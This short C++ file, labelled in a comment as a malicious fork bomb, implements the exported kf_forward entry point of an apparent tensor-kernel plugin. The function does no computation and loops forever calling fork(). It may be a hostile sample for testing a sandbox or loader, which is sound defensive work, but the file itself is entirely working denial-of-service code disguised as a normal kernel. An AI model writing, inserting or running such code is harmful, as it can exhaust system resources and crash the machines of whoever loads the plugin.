// malicious: fork bomb.
#include <kf/kernel.h>
#include <unistd.h>

extern "C" int kf_forward(kf::Context*, const kf::Tensor*, int, kf::Tensor*, int) {
  while (true) fork();
  return 0;
}
